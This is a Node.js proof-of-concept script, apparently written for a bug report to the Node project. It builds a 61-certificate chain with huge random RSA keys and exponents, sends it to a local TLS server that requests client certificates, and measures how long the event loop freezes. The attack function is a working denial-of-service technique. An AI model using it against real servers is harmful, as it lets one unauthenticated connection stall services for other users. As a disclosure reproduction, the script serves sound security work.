// The minimal case of a report to the Node project (README.md has its text): one connection without any
// credential holds up the event loop of a TLS server that asks for certificates. It needs nothing but Node: node unbounded-verification.mjs
import { spawn } from 'node:child_process';
import { generateKeyPairSync, randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { connect, createServer } from 'node:tls';
import { fileURLToPath } from 'node:url';

// DER. Each certificate but the first has a random RSA key of 3,072 bits, with an exponent as long, and a random signature.
const element = (tag, ...parts) => {
  const value = Buffer.concat(parts);
  const { length } = value;
  const size = length < 128 ? [length] : length < 256 ? [0x81, length] : [0x82, length >> 8, length & 255];
  return Buffer.concat([Buffer.from([tag, ...size]), value]);
};
const sequence = (...parts) => element(0x30, ...parts);
const identifier = (hex) => element(6, Buffer.from(hex, 'hex'));
const bits = (value) => element(3, Buffer.from([0]), value);
const integer = (value) => element(2, Buffer.concat([Buffer.alloc(value[0] >> 7), value]));
const number = (first) => Buffer.concat([Buffer.from([first]), randomBytes(382), Buffer.from([1])]);
const name = (text) => sequence(element(0x31, sequence(identifier('550403'), element(12, Buffer.from(text)))));
const algorithm = (hex) => sequence(identifier(hex), Buffer.from([5, 0]));
const rsaKey = () =>
  sequence(algorithm('2a864886f70d010101'), bits(sequence(integer(number(0xff)), integer(number(0x7f)))));
const validity = sequence(...['200101000000Z', '491231235959Z'].map((time) => element(0x17, Buffer.from(time))));
const authority = element(
  0xa3,
  sequence(sequence(identifier('551d13'), element(4, sequence(element(1, Buffer.from([255])))))),
);

function certificate(level, key) {
  const signedWith = algorithm('2a864886f70d01010b');
  const version = element(0xa0, integer(Buffer.from([2])));
  const of = [integer(Buffer.from([1])), signedWith, name(`${level + 1}`), validity, name(`${level}`), key, authority];
  const der = sequence(sequence(version, ...of), signedWith, bits(number(0x10)));
  return `-----BEGIN CERTIFICATE-----\n${der.toString('base64').replace(/(.{64})/g, '$1\n')}\n-----END CERTIFICATE-----\n`;
}

const { publicKey, privateKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
const leafKey = publicKey.export({ type: 'spki', format: 'der' });
const key = privateKey.export({ type: 'pkcs8', format: 'pem' });

async function attack(port) {
  const cert = Array.from({ length: 61 }, (_, level) => certificate(level, level === 0 ? leafKey : rsaKey())).join('');
  const client = connect({ port, cert, key, ciphers: 'DEFAULT:@SECLEVEL=0', rejectUnauthorized: false });
  client.on('error', () => {}).resume();
  await once(client, 'close');
}

async function serve() {
  const server = createServer({ cert: certificate(0, leafKey), key, requestCert: true, rejectUnauthorized: false });
  server.on('tlsClientError', ({ message }) => console.log(`the server refused it: ${message}`));
  server.on('secureConnection', (socket) => {
    console.log(`the server took it: ${socket.authorizationError}`);
    // Node 22 reports here what OpenSSL left in its queue.
    socket.on('error', () => {}).destroy();
  });
  await once(server.listen(0, '127.0.0.1'), 'listening');
  const client = spawn(process.execPath, [fileURLToPath(import.meta.url), server.address().port], { stdio: 'inherit' });
  let [last, longest] = [performance.now(), 0];
  const timer = setInterval(() => {
    const now = performance.now();
    [last, longest] = [now, Math.max(longest, now - last)];
  });
  await once(client, 'exit');
  clearInterval(timer);
  server.close();
  const { node, openssl } = process.versions;
  console.log(`Node ${node}, OpenSSL ${openssl}: its event loop stood still for ${Math.round(longest)} ms`);
}

await (process.argv[2] ? attack(Number(process.argv[2])) : serve());
